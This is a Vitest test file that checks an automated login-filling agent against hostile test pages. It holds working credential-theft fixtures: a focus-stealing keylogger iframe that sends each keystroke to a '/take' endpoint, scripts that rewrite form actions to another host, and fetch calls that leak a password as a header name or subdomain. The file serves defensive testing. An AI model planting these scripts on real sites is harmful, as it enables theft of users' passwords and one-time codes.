import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Pages } from '../../activities/browser/index.js';
import type { Grant } from '../../activities/vault/types.js';
import type { FillResult } from '../../contract/steps.js';
import { type Bench, bench, inputOf, QUICK, testPages } from '../engine/login/harness.js';
import { BUTTONS, copies, MOVED, SUBMISSIONS } from '../sites/hostile/leaks.js';
import { type HostileSite, loginForm, type Places, type Site, serveHostile, WELCOME } from '../sites/hostile/serve.js';
import { variant, variants } from '../support/variants.js';

const EMAIL = 'anna.lindqvist@example.com';
const PASSWORD = 'Tr0ub4dor & "9\'/\\Zebra';

const emailForm = `<h1>Sign in</h1><form method="post" action="/login"><label for="email">E-mail</label>
  <input id="email" name="email" type="email" autocomplete="username"><button>Next</button></form>`;

let pages: Pages;
beforeAll(async () => {
  pages = await testPages();
});
afterAll(() => pages.closeAll());

/** More of a run. */
interface More {
  readonly other?: (places: Places) => Site;
  readonly value?: (name: string) => string;
  readonly grant?: (site: HostileSite) => Partial<Grant>;
}

interface Run {
  readonly end: FillResult;
  readonly site: HostileSite;
  readonly b: Bench;
}

/** Fills the login of a site with all that it asks for, and closes its page. */
async function logIn(
  own: (places: Places) => Site,
  check: (run: Run) => void | Promise<void>,
  { other, grant, value = (name) => (name === 'email' ? EMAIL : PASSWORD) }: More = {},
): Promise<void> {
  const site = await serveHostile(own, other);
  const b = bench(pages, site.host, { login: { timeouts: QUICK } });
  b.vault.grant = { ...b.vault.grant, ...grant?.(site) };
  try {
    const { page, outcome } = await b.open();
    const seen = inputOf(outcome);
    const values = Object.fromEntries(seen.fields.map(({ name }) => [name, value(name)]));
    const end = await b.fill(page, seen, values);
    await b.activities.closePage({ ...b.ref, page });
    await check({ end, site, b });
  } finally {
    await site.stop();
    b.clean();
  }
}

describe('a password that its site would have sent elsewhere', () => {
  it.each([...variants(3, SUBMISSIONS), ...variants(1, BUTTONS)])('$name', async ({ own, how }) => {
    await logIn(own, ({ end, site }) => {
      expect(site.taken).toEqual([]);
      expect(end).toMatchObject({ kind: 'failed', code: 'domain_not_allowed' });
      expect(end).toMatchObject({ details: { host: site.otherHost, how, add: 'send_to' } });
    });
  });
});

describe('a press', () => {
  it.each(MOVED)('$name', async ({ own }) => {
    await logIn(own, ({ end, site }) => {
      expect(site.taken).toEqual([]);
      expect(end).toMatchObject({ kind: 'authenticated' });
    });
  });
});

describe('a code in boxes, beside a frame of another site that takes the focus all the time', () => {
  const boxes = [1, 2, 3, 4, 5, 6].map(
    (n) => `<input name="c${n}" maxlength="1" size="1" inputmode="numeric" aria-label="Digit ${n}">`,
  );
  const thief = `<input id="in"><script>
    const again = new MessageChannel();
    again.port1.onmessage = () => { document.getElementById('in').focus(); setTimeout(() => again.port2.postMessage(0), 1); };
    again.port2.postMessage(0);
    for (const kind of ['keydown', 'input']) addEventListener(kind, ({ key, data }) => fetch('/take/' + (key ?? data)), true);
  </script>`;
  const form = (script = ''): string => `<h1>Enter the code of your authenticator app</h1>
    <form method="post" action="/login">${boxes.join('')}<button>Verify</button></form>${script}`;
  const frame = ({ other }: Places): string => `<iframe src="${other}/thief"></iframe>`;
  // Such a page writes by itself what a keyboard sends, and nothing else.
  const BY_KEY = `<script>
    for (const box of document.querySelectorAll('input')) {
      box.onbeforeinput = (event) => event.preventDefault();
      box.onkeydown = (event) => { if (event.isTrusted && /^\\d$/.test(event.key)) box.value = event.key; };
    }
  </script>`;

  it.each(
    variants(1, [
      ['is inserted box by box', '', true],
      ['is typed by keys where the page takes nothing else, or not at all', BY_KEY, false],
    ] as const),
  )('%s, and no digit goes there', async (_, script, surely) => {
    await logIn(
      (places) => ({ '/': form(script) + frame(places), 'POST /login': WELCOME }),
      ({ site, end }) => {
        expect(site.taken).toEqual([]);
        const arrived = site.received.find((line) => line.startsWith('POST /login'));
        if (surely || end.kind === 'authenticated') expect(arrived).toContain('c1=4&c2=8&c3=2&c4=9&c5=1&c6=3');
        else expect(arrived).toBeUndefined();
      },
      { other: () => ({ '/thief': thief }), value: () => '482913' },
    );
  });
});

describe('what a login may send on', () => {
  it('an address in redirects and in a form of the provider: OAuth with a login hint, SAML by POST', async () => {
    const saml = Buffer.from(`<Response><NameID>${EMAIL}</NameID></Response>`).toString('base64');
    const post = (to: string, fields: string): string =>
      `<form method="post" action="${to}">${fields}</form><script>document.forms[0].submit()</script>`;
    await logIn(
      ({ other }) => ({
        '/': emailForm,
        'POST /login': { status: 302, location: `${other}/authorize?login_hint=${encodeURIComponent(EMAIL)}` },
        'POST /acs': WELCOME,
      }),
      ({ end, site }) => {
        expect(end).toMatchObject({ kind: 'authenticated' });
        expect(site.received.some((line) => line.startsWith('POST /acs'))).toBe(true);
      },
      {
        other: ({ own }) => ({
          '/authorize': post('/relay', `<input name="login_hint" value="${EMAIL}">`),
          'POST /relay': post(`${own}/acs`, `<input name="SAMLResponse" value="${saml}">`),
        }),
      },
    );
  });

  it('a password to a host of send_to, by its own scripts, where nothing is typed', async () => {
    const [own, other] = [
      ({ other: api }: Places): Site => ({
        '/': `${loginForm()}<script>document.forms[0].onsubmit = async (event) => {
          event.preventDefault();
          const answer = await fetch('${api}/take', { method: 'POST', body: JSON.stringify({ password: password.value }) });
          if (answer.ok) document.body.innerHTML = ${JSON.stringify(WELCOME)};
        };</script>`,
      }),
      (): Site => ({ 'POST /take': 'ok' }),
    ];
    await logIn(
      own,
      ({ end, site }) => {
        expect(end).toMatchObject({ kind: 'authenticated' });
        expect(site.taken).toHaveLength(1);
      },
      { other, grant: (site: HostileSite) => ({ send_to: [site.otherHost] }) },
    );
  });
});

it('logins that share a password do not stop each other, also where all send it in the same moment to slow sites', async () => {
  const slow = { '/': loginForm(), 'POST /login': { html: WELCOME, afterMs: 1_500 } };
  const one = () =>
    logIn(
      () => slow,
      ({ end, site }) => {
        expect(end).toMatchObject({ kind: 'authenticated' });
        expect(site.received.filter((line) => line.startsWith('POST /login'))).toHaveLength(1);
      },
    );
  await Promise.all([one(), one(), one()]);
});

variant('an address does not leave by the form that it was typed into', async () => {
  await logIn(
    ({ other }) => ({
      '/': `${emailForm}<script>email.oninput = () => { document.forms[0].action = '${other}/take'; };</script>`,
    }),
    ({ end, site }) => {
      expect(site.taken).toEqual([]);
      expect(end).toMatchObject({ code: 'domain_not_allowed', details: { how: 'form' } });
    },
  );
});

it('an address does not leave by a form in an address that a listener has just changed', async () => {
  const [asked, changed] = [emailForm.replace('method="post"', 'method="get"'), `document.forms[0].action = `];
  await logIn(
    ({ other }) => ({
      '/': `${asked}<script>document.forms[0].onsubmit = () => { ${changed}'${other}/take'; };</script>`,
    }),
    ({ end, site }) => {
      expect(site.taken).toEqual([]);
      expect(end).toMatchObject({ kind: 'input' });
    },
  );
});

it('copies of a password in every writing and by every way stay in the browser, and the login goes on', async () => {
  await logIn(
    (places) => ({ '/': loginForm() + copies(places), 'POST /login': WELCOME }),
    ({ end, site, b }) => {
      expect(site.taken).toEqual([]);
      expect(end).toMatchObject({ kind: 'authenticated' });
      expect(site.received.filter((line) => line.startsWith('POST /login'))).toHaveLength(1);
      expect(b.vault.trace.map(({ reason }) => reason)).toContain('copy_stopped');
    },
  );
});

it('a password stays in the browser as the name of a host or a header, which is written in small letters', async () => {
  await logIn(
    ({ other }) => ({
      '/': `${loginForm()}<script>password.oninput = ({ target: { value } }) => {
        fetch('${other}/take', { headers: { [value]: '1' } }).catch(() => 0);
        fetch('${other}/take'.replace('127.0.0.1', value + '.localhost'), { mode: 'no-cors' }).catch(() => 0);
      };</script>`,
      'POST /login': WELCOME,
    }),
    ({ end, site }) => {
      expect(site.taken).toEqual([]);
      expect(end).toMatchObject({ kind: 'authenticated' });
    },
    { value: (name) => (name === 'email' ? EMAIL : 'CorrectHorse99') },
  );
});
